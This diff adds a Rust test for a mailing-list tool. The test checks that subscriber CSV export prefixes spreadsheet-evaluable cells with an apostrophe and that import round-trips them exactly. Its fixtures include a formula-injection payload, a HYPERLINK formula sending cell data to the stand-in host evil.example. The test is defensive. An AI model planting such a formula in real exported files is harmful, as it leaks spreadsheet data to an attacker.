@@ -224,3 +224,84 @@ async fn import_normalises_names_and_rejects_long_ones_by_line() {
     assert_eq!(name_of("lines@example.com").as_deref(), Some("Multi Line"));
     assert!(lp.status_of("long@example.com").await.is_none());
 }
+
+/// Issue #10, point 9: a cell a spreadsheet would evaluate (`=`, `+`, `-`,
+/// `@`, tab, CR first) is written with a leading `'`, and import takes
+/// exactly that `'` off again, so the round trip is exact.
+#[tokio::test]
+async fn export_neutralises_formulas_and_import_undoes_it() {
+    let a = lp();
+    let names = [
+        (
+            "f1@example.com",
+            "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")",
+        ),
+        ("f2@example.com", "+1 555 0100"),
+        ("f3@example.com", "-2+3"),
+        ("f4@example.com", "@SUM(A1:A9)"),
+        // Already an apostrophe before a formula character: kept exactly.
+        ("f5@example.com", "'=not a formula"),
+        ("f6@example.com", "O'Brien"),
+        ("f7@example.com", "'quoted'"),
+    ];
+    let mut csv = String::from("email,name,tags,city\n");
+    for (email, name) in names {
+        let _ = writeln!(
+            csv,
+            "{email},\"{}\",\"=tag,x\",\"\t@city\"",
+            name.replace('"', "\"\"")
+        );
+    }
+    // An address may start with a formula character too.
+    csv.push_str("-dash@example.com,Dash,,\n");
+    std::fs::write(a.path("l.csv"), &csv).unwrap();
+    a.ok(&["subscribers", "import", "l.csv"]).await;
+    a.ok(&["subscribers", "export", "--out", "export.csv"])
+        .await;
+
+    let exported = std::fs::read_to_string(a.path("export.csv")).unwrap();
+    let mut reader = csv::ReaderBuilder::new().from_reader(exported.as_bytes());
+    let mut rows = 0;
+    for record in reader.records() {
+        let record = record.unwrap();
+        for cell in record.iter() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "an exported cell a spreadsheet would evaluate: {cell:?}\n{exported}"
+            );
+        }
+        rows += 1;
+    }
+    assert_eq!(rows, names.len() + 1);
+    assert!(
+        exported.contains("'=HYPERLINK("),
+        "the formula is kept, neutralised:\n{exported}"
+    );
+
+    let b = lp();
+    std::fs::copy(a.path("export.csv"), b.path("export.csv")).unwrap();
+    b.ok(&["subscribers", "import", "export.csv"]).await;
+    let key = |v: &serde_json::Value| {
+        (
+            v["email"].to_string(),
+            v["name"].to_string(),
+            v["tags"].to_string(),
+            v["attributes"].to_string(),
+        )
+    };
+    let mut left: Vec<_> = a.subscribers().await.iter().map(key).collect();
+    let mut right: Vec<_> = b.subscribers().await.iter().map(key).collect();
+    left.sort();
+    right.sort();
+    assert_eq!(left, right, "export -> import round-trips exactly");
+    let f1 = b
+        .subscribers()
+        .await
+        .into_iter()
+        .find(|s| s["email"] == "f1@example.com")
+        .unwrap();
+    assert_eq!(f1["name"], names[0].1);
+    assert_eq!(f1["tags"], serde_json::json!(["=tag", "x"]));
+    assert_eq!(f1["attributes"]["city"], "\t@city".trim());
+    assert!(b.status_of("-dash@example.com").await.is_some());
+}
